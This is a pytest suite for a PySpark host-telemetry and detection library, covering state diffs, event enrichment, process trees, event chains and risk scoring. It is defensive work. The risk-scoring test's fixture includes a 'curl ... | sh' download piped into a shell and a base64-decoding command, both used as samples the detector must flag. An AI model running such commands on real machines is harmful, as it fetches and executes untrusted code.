import datetime as dt
import random
import re

from pyspark.sql import functions as F

from fleetscope.functions import predicates as PR
from fleetscope.functions import scalars as SC
from fleetscope.operators import detect, enrich, entities, graph, hierarchy, stats, timeline
from fleetscope.plans import queries_rules, rules
from fleetscope.sources import events as E
from fleetscope.sources import state as S


def T(minute):
    return dt.datetime(2026, 1, 1, 0, 0) + dt.timedelta(minutes=minute)


def test_diff_applied_gives_the_new_table(spark):
    old = spark.createDataFrame([("h", "a", "1", "w"), ("h", "b", "2", "w"), ("h", "c", "3", "other"), ("h", "d", "4", "other")], "host_id string, k string, v string, _src string")
    new = spark.createDataFrame([("h", "a", "1"), ("h", "c", "9"), ("h", "e", None)], "host_id string, k string, v string")
    diff = {(r.k, r.change) for r in S.state_diff(old, new, ["host_id", "k"], "w").collect()}
    assert diff == {("b", "removed"), ("c", "changed"), ("e", "added")}
    after = {(r.k, r.v, r._src) for r in S.apply_snapshot(old, new, ["host_id", "k"], "w").collect()}
    assert after == {("a", "1", "w"), ("c", "9", "w"), ("d", "4", "other"), ("e", "", "w")}


def test_derived_only_changes_and_first_inventory_are_silent(spark):
    old = spark.createDataFrame([("a", "1", "x")], "k string, v string, d string")
    new = spark.createDataFrame([("a", "1", "y")], "k string, v string, d string")
    diff = S.state_diff(old, new, ["k"])
    assert S.change_events(diff, ["k"], "t", derived=["d"]).count() == 0
    assert S.change_events(diff, ["k"], "t", first_inventory=True).count() == 0
    assert [r.change_field for r in S.change_events(diff, ["k"], "t").collect()] == ["d"]


def test_many_changes_become_one_summary(spark):
    old = spark.range(2).select(F.concat(F.lit("gone"), "id").alias("k"))
    new = spark.range(151).select(F.lpad("id", 3, "0").alias("k"))
    rows = S.change_events(S.state_diff(old, new, ["k"]), ["k"], "t", "T").collect()
    assert [(r.event_action, r.change_table, r.change_row) for r in rows] == [("state_bulk_change", "t", "")]
    assert rows[0].message == "bulk change 'T': 151 added, 2 removed, 0 changed. Examples: 000; 001; 002; 003; 004; 005; 006; 007 (summarised — more than 150 records)"


def test_versions_that_differ_in_a_few_buckets_read_those(spark, tmp_path):
    old = spark.range(20_000).select(F.col("id").cast("string").alias("k"), (F.col("id") % 7).cast("string").alias("v"), F.lit("w").alias("_src"))
    new = old.where("k <> '5'").withColumn("v", F.when(F.col("k") == "77", "x").otherwise(F.col("v"))).unionByName(spark.createDataFrame([("new", None, "w")], old.schema))
    for name, df in (("a", old), ("b", new), ("c", old.unionByName(old.where("k = '9'")).repartition(3))):
        S.write_version(df, f"{tmp_path}/{name}", ["k"], 200)
    diff = S.versions_diff(spark, f"{tmp_path}/a", f"{tmp_path}/b", ["k"])
    assert {(r.k, r.change) for r in diff.collect()} == {("5", "removed"), ("77", "changed"), ("new", "added")}
    buckets = lambda df: {re.search(r"_bucket=(\d+)", f)[1] for f in df.inputFiles()}
    every = spark.read.parquet(f"{tmp_path}/a/rows")
    assert len(buckets(every)) == 200 and "PartitionFilters: [_bucket" in diff._jdf.queryExecution().executedPlan().toString()
    read = re.findall(r"_bucket#\d+ (?:IN|INSET) \(?([\d, ]+)", diff._jdf.queryExecution().optimizedPlan().toString())
    assert read and all(len(x.split(",")) <= 3 for x in read)
    assert S.versions_diff(spark, f"{tmp_path}/a", f"{tmp_path}/a", ["k"]).count() == 0
    # A row that is there twice is no difference by key, but the buckets' sums see it.
    a, c = (S.bucket_hashes(spark.read.parquet(f"{tmp_path}/{x}/rows")) for x in "ac")
    assert a.exceptAll(c).count() == 1 and S.versions_diff(spark, f"{tmp_path}/a", f"{tmp_path}/c", ["k"]).count() == 0


def test_append_reads_the_days_of_what_comes_in(spark, tmp_path):
    day = lambda k: dt.datetime(2026, 1, 1 + k, 12)
    row = lambda k, e: ("h", e, day(k))
    schema, path = "host_id string, event_id string, ts timestamp", f"{tmp_path}/t"
    put = lambda rows: sorted(str(r.event_id) for r in E.append_by_day(spark.createDataFrame(rows, schema), path).collect())
    assert put([row(0, "a"), row(0, "a"), row(1, "b"), row(5, "z"), row(2, None), row(2, None)]) == ["None", "None", "a", "b", "z"]
    assert put([row(1, "b"), row(1, "c"), row(0, "a")]) == ["c"]
    assert put([row(2, None), row(0, "d")]) == ["None", "d"]
    stored = E.stored_days(spark, path, [day(1).date()], ["event_id"])
    plan = stored._jdf.queryExecution().executedPlan().toString()
    assert {r.event_id for r in stored.collect()} == {"b", "c"} and "PartitionFilters: [isnotnull(event_date" in plan and "ReadSchema: struct<event_id:string>" in plan
    assert spark.read.parquet(path).count() == 8


def test_lookups_take_the_last_row_and_the_first_table(spark):
    rows = spark.createDataFrame([(1, "x (a)", "p"), (2, "x (b)", None), (3, None, "q"), (4, "(c)", "")], "id int, name string, other string")
    t = spark.createDataFrame([("a", "old", 1), ("a", "new", 2), ("b", None, 1), ("", "empty", 1)], "k string, v string, at int")
    assert {r.id: r.w for r in enrich.lookup(rows, t, "name", "k", {"w": "v"}, order="at", extract=r"\((\w)\)").collect()} == {1: "new", 2: "", 3: "", 4: ""}
    assert enrich.lookup(rows, t, "name", "k", {"w": "v"}, order="at", extract=r"\((\w)\)", last=False).where("id = 1").first().w == "old"
    one, two = (spark.createDataFrame(x, "key string, value string") for x in ([("a", "1"), ("a", "0")], [("p", "2"), ("q", "3"), ("", "4")]))
    found = enrich.attach_first_hit(rows, ["id"], [(F.regexp_extract("name", r"\((\w)\)", 1), one), (F.col("other"), two)], "hit")
    assert {r.id: r.hit for r in found.collect()} == {1: "0", 2: "", 3: "3", 4: ""} and found.columns == ["id", "name", "other", "hit"]


def test_fingerprint_of_empty_and_order(spark):
    df = spark.createDataFrame([(1, "a"), (2, "b")], "x int, y string")
    assert S.fingerprint(df, df.columns).first() == S.fingerprint(df.orderBy(F.desc("x")), df.columns).first()
    assert tuple(S.fingerprint(df.limit(0), df.columns).first()) == (0, 0)


def test_append_keeps_first_and_null_keys(spark):
    stored = spark.createDataFrame([("h", "1", 0)], "host_id string, event_id string, _seq int")
    new = spark.createDataFrame([("h", "1", 1), ("h", "2", 2), ("h", "2", 3), ("h", None, 4), ("h", None, 5), ("h", "", 6), ("h", "", 7)], "host_id string, event_id string, _seq int")
    assert {(r.event_id, r._seq) for r in E.append_dedup(stored, new).collect()} == {("2", 2), (None, 4), (None, 5), ("", 6)}


def test_conform_names_what_it_does_not_know(spark):
    df = spark.createDataFrame([("1", "raw text", "x", "")], "event_id string, raw string, odd string, blank string")
    r = E.conform(df).first()
    assert r.not_normalized == "odd" and r.raw == "raw text" and r.ingested
    assert E.conform(df.drop("odd")).first().raw == ""
    assert len(E.event_schema()) == sum(len(v.split()) for v in E.GROUPS.values())


def test_interval_asof_overlaps_and_open_ends(spark):
    ev = spark.createDataFrame([("h", 1, T(5)), ("h", 2, T(15)), ("h", 3, T(5000)), ("h", 4, T(-5))], "host_id string, event_id int, ts timestamp")
    iv = spark.createDataFrame([("h", T(0), None, "open"), ("h", T(3), T(10), "in")], "host_id string, start timestamp, end timestamp, name string")
    got = {r.event_id: r.name for r in enrich.interval_asof(ev, iv, ["event_id"], add=["name"]).collect()}
    assert got == {1: "in", 2: "open", 3: "open", 4: None}


def test_link_events_needs_one_candidate(spark):
    procs = spark.createDataFrame([("h", "1", "/usr/bin/a -x", "root", "pa"), ("h", "2", "/usr/bin/b", "u", ""), ("h", "3", "/usr/bin/b", "u", "")], "host_id string, pid string, command string, user string, package string")
    ports = spark.createDataFrame([("h", "203.0.113.9:443", "10.0.0.2:5", "2")], "host_id string, remote string, local string, pid string")
    ev = spark.createDataFrame([("h", 1, None, "", "a", "", "", None), ("h", 2, None, "", "b", "", "", None), ("h", 3, None, "", "", "", "203.0.113.9", 443), ("h", 4, 99, "", "", "", "", None)], "host_id string, event_id int, process_pid long, process_executable string, process_name string, object_name string, destination_ip string, destination_port long")
    got = {r.event_id: (r.process_pid, r.process_source or "", r.process_alive) for r in enrich.link_events(ev, procs, ports).collect()}
    assert got == {1: (1, "matched by name", "yes"), 2: (None, "", ""), 3: (2, "matched by socket", "yes"), 4: (99, "", "no")}


def test_authentication_messages(spark):
    df = spark.createDataFrame([("Accepted publickey for bob from 203.0.113.9 port 22 ssh2", ""), ("Failed password for invalid user eve from 203.0.113.9 port 22", "success"), ("  bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ls", ""), ("pam_unix(sudo:session): session opened for user root(uid=0)", "")], "message string, event_outcome string")
    got = [(r.logon_type, r.user_target, r.source_ip, r.event_outcome) for r in enrich.authentication(df).collect()]
    assert got == [("ssh publickey", "bob", "203.0.113.9", "success"), ("ssh password", "eve", "203.0.113.9", "failure"), ("sudo", "root", "", "success"), ("sudo", "root", "", "success")]


def test_process_package_and_arguments(spark):
    procs = spark.createDataFrame([("h", "1", "/usr/bin/btop", "btop"), ("h", "2", "/usr/bin/python3.13", "python3 /usr/share/app/main.py /etc/hosts"), ("h", "3", "", "[kworker]"), ("h", "4", "/bin/ls", "ls")], "host_id string, pid string, exe string, command string")
    files = spark.createDataFrame([("h", "/usr/bin/btop", "btop"), ("h", "/usr/bin/python3.13", "python3"), ("h", "/usr/share/app/main.py", "app"), ("h", "/usr/bin/ls", "coreutils"), ("h", "/etc/hosts", "setup")], "host_id string, path string, package string")
    got = {r.pid: r.package for r in enrich.process_package(procs, files).collect()}
    assert got == {"1": "btop", "2": "app", "3": "kernel", "4": "coreutils"}
    args = {r.pid: r.arg_files for r in enrich.argument_files(procs, files).collect()}
    assert args["2"] == "/usr/share/app/main.py, /etc/hosts" and args["1"] == ""


def test_attach_package_unit_and_module(spark):
    rows = spark.createDataFrame([("h", 1, "/sbin/x", "", ""), ("h", 2, "", "sshd.service", ""), ("h", 3, "", "", "snd-hda")], "host_id string, id int, path string, unit string, module string")
    files = spark.createDataFrame([("h", "/usr/bin/x", "px"), ("h", "/usr/lib/systemd/system/sshd.service", "openssh"), ("h", "/lib/modules/6/snd_hda.ko.xz", "kernel-modules")], "host_id string, path string, package string")
    got = {r.id: r.package for r in enrich.attach_package(rows, files, ["id"], ["path"], "unit", "module").collect()}
    assert got == {1: "px", 2: "openssh", 3: "kernel-modules"}


def test_dependencies_and_privileges(spark):
    apps = spark.createDataFrame([("h", "a", "", "b, c/x", "a"), ("h", "b", "org.b", "", ""), ("h", "c", "", "org.b", "")], "host_id string, name string, app_id string, depends string, recommends string")
    fan = {r.name: (r.deps_count, r.required_by, r.required_by_names) for r in enrich.dependency_fan(apps, enrich.dependency_edges(apps), "name").collect()}
    assert fan == {"a": (2, 0, ""), "b": (1 - 1, 2, "a, c"), "c": (1, 1, "a")}
    users = spark.createDataFrame([("h", "root", "0", "root", "/bin/bash"), ("h", "bob", "1000", "bob,wheel", "/bin/bash"), ("h", "svc", "990", "svc", "/sbin/nologin")], "host_id string, name string, uid string, groups string, shell string")
    got = {r.name: r.privilege for r in enrich.user_privileges(users, spark.createDataFrame([("h", "wheel")], "host_id string, group string"), spark.createDataFrame([("h", "/bin/bash")], "host_id string, shell string")).collect()}
    assert got == {"root": "admin", "bob": "admin", "svc": "service"}


def test_hierarchy_with_cycle_and_orphan(spark):
    edges = spark.createDataFrame([("h", 1, 1), ("h", 2, 1), ("h", 3, 2), ("h", 4, 5), ("h", 5, 4), ("h", 6, 99)], "host_id string, child long, parent long")
    got = {(r.id, r.ancestor, r.depth) for r in hierarchy.ancestors(edges, 12).collect()}
    assert got == {(2, 1, 1), (3, 2, 1), (3, 1, 2), (4, 5, 1), (5, 4, 1), (6, 99, 1)}
    nodes = edges.select("host_id", F.col("child").alias("pid"), F.col("parent").alias("ppid"))
    depth = {r.pid: r.depth for r in hierarchy.forest(nodes, F.lit("")).collect()}
    assert depth == {1: 0, 2: 1, 3: 2, 4: 0, 5: 0, 6: 0}
    sums = {r.id: (r.n, r.v) for r in hierarchy.subtree_sum(nodes.select("host_id", F.col("pid").alias("id"), F.lit(1).alias("v")), edges, ["v"]).collect()}
    assert sums[1] == (3, 3) and sums[3] == (1, 1)


def test_nearest_owner_ties_go_to_the_first_name(spark):
    req = spark.createDataFrame([("h", "p", "x"), ("h", "q", "x"), ("h", "x", "y"), ("h", "q", "y")], "host_id string, child string, parent string")
    programs = spark.createDataFrame([("h", "p"), ("h", "q")], "host_id string, id string")
    got = {r.id: (r.owner, r.dist) for r in hierarchy.nearest_owner(req, programs).collect()}
    assert got == {"p": ("p", 0), "q": ("q", 0), "x": ("p", 1), "y": ("q", 1)}


def test_link_discovery_drops_counters_and_measures(spark):
    a = spark.createDataFrame([(str(k), f"host-{k}", f"{k}.5") for k in range(100, 110)], "id string, host string, price string")
    b = spark.createDataFrame([(str(k), f"HOST-{k} ") for k in range(100, 108)], "id string, machine string")
    got = [(r.from_col, r.to_col, r.shared, r.ratio) for r in graph.discover_links({"a": a, "b": b}).collect()]
    assert got == [("host", "machine", 8, 1.0)]


def test_chains_follow_socket_object_and_user(spark):
    ev = spark.createDataFrame(
        [("h", "1", T(1), 20, "10.0.0.1", 22, "", "dnf install btop", "bob", "m"), ("h", "2", T(2), None, "10.0.0.1", 22, "", "", "", "m"), ("h", "3", T(3), None, "", None, "btop", "", "", "m"), ("h", "4", T(4), None, "", None, "", "", "bob", "m"), ("h", "5", T(5), None, "", None, "", "", "eve", "m"), ("h", "6", T(6), None, "", None, "", "", "", "fim")],
        "host_id string, event_id string, ts timestamp, process_pid long, destination_ip string, destination_port long, package_name string, process_command_line string, user_name string, event_module string",
    )
    roots = spark.createDataFrame([("h", 20, 10)], "host_id string, id long, root long")
    got = {r.event_id: (r.chain_id, r.how) for r in timeline.build_chains(ev, roots).collect()}
    assert got == {"1": ("proc:10", "ancestry"), "2": ("proc:10", "socket"), "3": ("proc:10", "object"), "4": ("proc:10", "time"), "5": ("user:eve", "time"), "6": ("mod:fim", "time")}


def test_chains_equal_a_fold_in_order_of_time(spark):
    rng = random.Random(6)
    rows = []
    for k in range(400):
        command = " ".join(rng.choices(["run", "'alpha'", "/usr/bin/x", "--flag", "beta1", "gamma", "install"], k=rng.randrange(4)))
        rows.append(("h", f"{k:03}", T(rng.randrange(4 * 86400)) if k % 50 else None, rng.choice([None, None, None, 20, 21]), rng.choice(["", "10.0.0.1", "10.0.0.2", "10.0.0.3"]) if k % 3 == 0 else "", 22, rng.choice(["", "", "alpha", "beta1", "delta"]), command, rng.choice(["", "", "bob", "eve"]), rng.choice(["m", ""])))
    names = "host_id string, event_id string, ts timestamp, process_pid long, destination_ip string, destination_port long, package_name string, process_command_line string, user_name string, event_module string"
    roots = spark.createDataFrame([("h", 20, 10)], "host_id string, id long, root long")
    state, expected = timeline.ChainState(), {}
    for _, event, _, pid, ip, port, thing, command, user, module in sorted(rows, key=lambda r: (r[2] is None, r[2] or 0, r[1])):
        expected[event] = state.assign({20: "10", 21: "21"}.get(pid, ""), f"{ip}:{port}" if ip else "", thing, command, user, module)
    got = {r.event_id: (r.chain_id, r.how) for r in timeline.build_chains(spark.createDataFrame(rows, names), roots).collect()}
    assert got == expected
    assert {how for _, how in expected.values()} == {"ancestry", "socket", "object", "time"}


def test_shipped_detections_run(spark):
    ev = spark.createDataFrame([(str(k), T(k / 10), "authentication", "failure", "bob", "", "", "", "", "", "") for k in range(6)], "event_id string, ts timestamp, event_category string, event_outcome string, subject_name string, event_action string, process_executable string, object_name string, network_direction string, destination_ip string, event_module string")
    counts = {r.name: detect.detect_tumbling(ev, r).count() for r in rules.DETECTIONS}
    assert counts == {"auth_bruteforce": 1, "exec_from_temp": 0, "external_beacon": 0, "file_perm_burst": 0}
    assert detect.detect_asof(ev, rules.DETECTIONS[0], F.lit(T(1))).first().message == "6 failed authentications in a row for bob"


def test_risk_scores(spark):
    procs = spark.createDataFrame([("h", "1", "0", "root", "/tmp/x", "evil", ""), ("h", "2", "1", "bob", "/usr/bin/bash", "/bin/bash -c 'curl http://a | sh'", "shell"), ("h", "3", "0", "root", "", "[kthreadd]", ""), ("h", "4", "2", "root", "/home/bob/x", "base64 -d /tmp/y", None), ("h", "5", "9", None, None, None, None)], "host_id string, pid string, ppid string, user string, exe string, command string, purpose string")
    socks = spark.createDataFrame([("h", "1", "OPEN (exposed)", ""), ("h", "1", "", "203.0.113.9:1"), ("h", "2", "local-only", "[::1]:5"), ("h", "2", None, None)], "host_id string, pid string, exposure string, remote string")
    files, names = spark.createDataFrame([("h", "/usr/bin/bash")], "host_id string, path string"), spark.createDataFrame([("h", "X")], "host_id string, name string")
    risk = {r.pid: (r.risk, r.reasons) for r in detect.process_risk(procs, socks, files, names).collect()}
    assert risk["1"] == (3 + 3 + 2 + 1 + 1, "runs from temp dir, listening exposed, external connection, root, name/exe mismatch")
    assert risk["2"] == (0, "") and risk["3"] == (0, "") and risk["4"] == (2 + 1 + 1, "binary in home, root, name/exe mismatch") and risk["5"] == (0, "")
    cmd = {r.pid: (r.cmd_risk, r.cmd_flags) for r in detect.command_risk(procs, rules.COMMAND_MARKERS, rules.INTERPRETERS).collect()}
    assert cmd["1"] == cmd["3"] == cmd["5"] == ("", "") and cmd["2"] == ("medium", "a download piped into an interpreter")
    assert cmd["4"] == ("high", "base64 decoding, run from a temporary directory, not from a package, root, started from bash")


def test_findings_scan_a_table_once_and_stand_alone(spark):
    t = spark.createDataFrame([(k, "b" if k % 2 else "a") for k in range(300)], "n int, kind string")
    found = [
        detect.Finding("all", "All", "low", "t", "TRUE", "{n}{missing}", newest="lpad(n, 3, '0')", cap=200, time="kind"), detect.Finding("some", "Some", "high", "t", "kind = 'a' AND n < 20", "{n} {half}", more=(("half", "n div 2"),), order=("lpad(n, 3, '0')",)),
        detect.Finding("none", "None", "high", "t", "n < 0", ""), detect.Finding("odd", "Odd", "high", "t", "nope = 1", ""), detect.Finding("gone", "Gone", "low", "u", "TRUE", ""),
    ]
    report = detect.run_findings(spark, found, {"t": t})
    got = [(r.finding, r.n, r.when, r.evidence, r.error) for r in report.collect()]
    assert got == [
        ("some", 10, "", "; ".join(f"{n} {n // 2}" for n in range(0, 20, 2)), ""), ("odd", 0, "", "", "UNRESOLVED_COLUMN"),
        ("all", 200, "b", "; ".join(f"{n}{{missing}}" for n in range(299, 287, -1)), ""), ("gone", 0, "", "", "TABLE_OR_VIEW_NOT_FOUND"),
    ]
    assert tuple(detect.findings_total(report, 5).first()) == (210, 1, 0, 1, 5, 2)


def test_findings_on_pairs_count_all_and_hold_the_first(spark):
    config = [("h", f"/etc/{s}/{k}", "bob", "0644", f"200{k}", "yes" if k % 2 else "", s) for s in "ab" for k in range(6)]
    root = [("h", "a", f"x{k}") for k in range(30)] + [("h", "a", "x1\t!"), ("h", "a", "x1 (b"), ("h", "b", "y"), ("h", "c", "z")]
    on, rule = ["host_id", "service"], next(f for f in rules.FINDINGS if f.table == "config_services")
    rows = spark.createDataFrame(config, "host_id string, path string, owner string, mode string, changed string, user_owned string, service string")
    view = detect.first_partners(rows, spark.createDataFrame(root, "host_id string, service string, command string"), on, F.concat("command", F.lit(" (as root)")))
    assert view.count() == 6 * 12 + 6 and view.agg(F.sum("pairs")).first()[0] == 6 * 32 + 6
    told = sorted(f"{p} - owner {o}, mode {m}, changed {t}; read by {c} (as root)" for h, p, o, m, t, mine, s in config if mine for g, r, c in root if (g, r) == (h, s))
    got = detect.run_findings(spark, [rule], {"config_services": view}).first()
    assert (got.n, got.when, got.evidence) == (len(told), "2005", "; ".join(told[:12])) and "x1\t!" in got.evidence
    sample = queries_rules._finding_views(spark, "/root/testdata/sf0.01")["config_services"]
    assert sample.groupBy("path").count().agg(F.max("count")).first()[0] == 12


def test_services_of_a_common_user_are_paired_in_blocks(spark, monkeypatch):
    for name, n in (("BLOCK_A", 8), ("BLOCK_B", 16), ("TASK_PAIRS", 100), ("RUN", 4)):
        monkeypatch.setattr(graph, name, n, raising=False)
    procs = [("h", k, "u") for k in range(60)] + [("h", 60, "v"), ("h", 60, "v"), ("h", 61, "w"), ("h", 62, None), ("i", 63, "u")]
    owned = [("h", "user", "u", f"s{k}") for k in range(50)] + [("h", "user", "v", x) for x in ("s", "s", None)] + [("h", "user", None, "n"), ("h", "user", "x", "n"), ("h", "system", "w", "n")]
    files = spark.createDataFrame([("h", 1, p) for p in ("/a/x", "/a/x", "/a/y", "/z")] + [("h", 2, "/a/x")], "host_id string, pid long, path string").withColumn("deleted", F.lit(""))
    found = graph.process_edges(
        spark.createDataFrame(procs, "host_id string, pid long, user string").withColumn("package", F.lit("")).coalesce(1), spark.createDataFrame([], "host_id string, pid long, local string, remote string"),
        files, spark.createDataFrame(owned, "host_id string, scope string, owner string, unit string").coalesce(1),
    )
    pairs = found.where("kind = 'service'")
    got = sorted((r.pid, r.target or "", r.n) for r in pairs.collect())
    assert got == sorted((p, x or "", 1) for h, p, u in procs for g, scope, o, x in owned if h == g and scope == "user" and u is not None and u == o) and len(got) == 60 * 50 + 2 * 3
    assert pairs.select(F.spark_partition_id().alias("p")).groupBy("p").count().where("count < 1500").count() > 4
    assert sorted((r.pid, r.target, r.n) for r in found.where("kind = 'directory'").collect()) == [(1, "", 1), (1, "/a", 3), (2, "/a", 1)]
    none = spark.createDataFrame([], "host_id string, scope string, owner string, unit string")
    assert graph.process_edges(*(spark.createDataFrame([], s) for s in ("host_id string, pid long, user string, package string", "host_id string, pid long, local string, remote string", "host_id string, pid long, path string, deleted string")), none).count() == 0


def test_shipped_noise_templates_equal_a_loop(spark):
    bits = [("", "", "")] + [(t.get("event_module", "x"), t.get("event_provider", ""), m) for t in rules.NOISE for m in ("CMD (", "op=PAM:setcred", "ps -eo pid=,ppid=,user=", "TypeError", "started [k]", "is marked executable", "mount", 'comm="rpm"', " ", "xrun not found", "127.0.0.1:5 -> 127.0.0.1:6", "pam_unix(sudo:session)", "SYSCALL x", re.sub(r"\\[bSs]|[\\^$*+?()\[\]]", "", t["match"].split("|")[0]))]
    rows = [(k, m.upper() if k % 3 == 0 else m, f"my-{p}" if k % 2 else p, "log", s, "old" if k % 5 == 0 else "") for k, (m, p, s) in enumerate(sorted(set(bits)))]
    df = spark.createDataFrame(rows, "id int, event_module string, event_provider string, event_action string, message string, tags string")

    def first(row):
        for t in rules.NOISE:
            if all(t[f].lower() in str(row[i]).lower() for f, i in (("event_module", 1), ("event_provider", 2), ("event_action", 3)) if f in t) and re.search(t["match"], row[4]):
                return t
        return None

    want = {}
    for row in rows:
        t = first(row)
        if t is None or t["action"] == "tag":
            want[row[0]] = ",".join(x for x in (row[5], t and "noise:" + t["reason"]) if x)
    assert {r.id: r.tags for r in PR.apply_templates(df, rules.NOISE).collect()} == want
    assert len({first(r)["name"] for r in rows if first(r)}) > 40
    broken = PR.apply_templates(df, [{"event_module": "audit", "match": "(", "action": "drop"}, {"action": "drop"}])
    assert broken.count() == len(rows)


def test_entities_adopt_their_ancestor(spark):
    procs = spark.createDataFrame([("h", "10", "2", "/opt/acme/app", "/opt/acme/app", "", "bob", "1.0", "0.5", "01:00"), ("h", "11", "10", "/home/bob/helper", "/home/bob/helper", "", "bob", "2.0", "0.5", "00:30"), ("h", "2", "0", "", "[kthreadd]", "kernel", "root", "0", "0", "1-00:00:00")], "host_id string, pid string, ppid string, exe string, command string, package string, user string, rss_mb string, cpu string, elapsed string")
    apps = spark.createDataFrame([("h", "firefox")], "host_id string, name string")
    socks = spark.createDataFrame([("h", "11", "LISTEN", "", "local-only")], "host_id string, pid string, state string, remote string, exposure string")
    got = {r.entity: (r.tier, r.pids, r.rss_mb, r.ports, r.oldest_s) for r in entities.entities(procs, apps, socks).collect()}
    assert got == {"kernel": ("kernel", 1, 0.0, 0, 86400), "acme": ("vendor", 2, 3.0, 1, 60)}


def test_predicates_on_nulls_and_addresses(spark):
    df = spark.createDataFrame([(None, "10.0.3.7"), ("a", "203.0.113.9"), ("", "not an ip")], "x string, ip string")
    assert [r[0] for r in df.select(PR.row_condition(df, "x", "eq", "")).collect()] == [True, False, True]
    assert [r[0] for r in df.select(PR.cidr(F.col("ip"), "10.0.0.0/20")).collect()] == [True, False, False]
    assert [r[0] for r in df.select(SC.elapsed_seconds(F.lit("2-03:04:05"))).collect()][0] == 2 * 86400 + 3 * 3600 + 245


def test_page_reports_what_follows(spark):
    rows, total = stats.page(spark.range(10), F.col("id") > 1, [F.asc("id")], 3, 2)
    assert [r.id for r in rows.collect()] == [4, 5, 6] and tuple(total.first()) == (8, True)


def test_forest_walks_chains_of_any_depth(spark):
    rows = [(f"h{h}", k, k - 1) for h in (1, 2) for k in range(30)] + [("h1", 100, 101), ("h1", 101, 100), ("h1", 1_234_567_890_123, 29), ("h1", 1_234_567_890_124, 29)]
    got = {(r.host_id, r.pid): r for r in hierarchy.forest(spark.createDataFrame(rows, "host_id string, pid long, ppid long"), F.lit("")).collect()}
    assert all(got[f"h{h}", k].depth == k for h in (1, 2) for k in range(30))
    assert got["h1", 100].depth == got["h1", 101].depth == 0
    assert got["h1", 1_234_567_890_123].path != got["h1", 1_234_567_890_124].path


def test_deepest_directory_of_a_long_path(spark):
    path = "/" + "/".join(f"d{k}" for k in range(30)) + "/file"
    dirs = [("h", "/d0", "shallow"), ("h", path.rsplit("/", 1)[0], "deep")]
    rows = spark.createDataFrame([("h", path), ("h", "plain"), ("h", "/d0/x")], "host_id string, path string")
    got = {r.path: r.owner for r in enrich.under_directories(rows, spark.createDataFrame(dirs, "host_id string, dir string, owner string")).collect()}
    assert got == {path: "deep", "plain": None, "/d0/x": "shallow"}


def test_nearest_name_of_one_letter(spark):
    wanted, names = ["vi", "go", "X", "bash", "none"], ["vim", "vi-long-name", "golang", "Xorg", "bash", "bas"]
    got = enrich.nearest_name(spark.createDataFrame([(x,) for x in wanted], "w string"), spark.createDataFrame([(x,) for x in names], "n string"), "w", "n").collect()
    assert {r.w: r.match for r in got} == {"vi": "vim", "go": "golang", "X": "Xorg", "bash": "bash"}
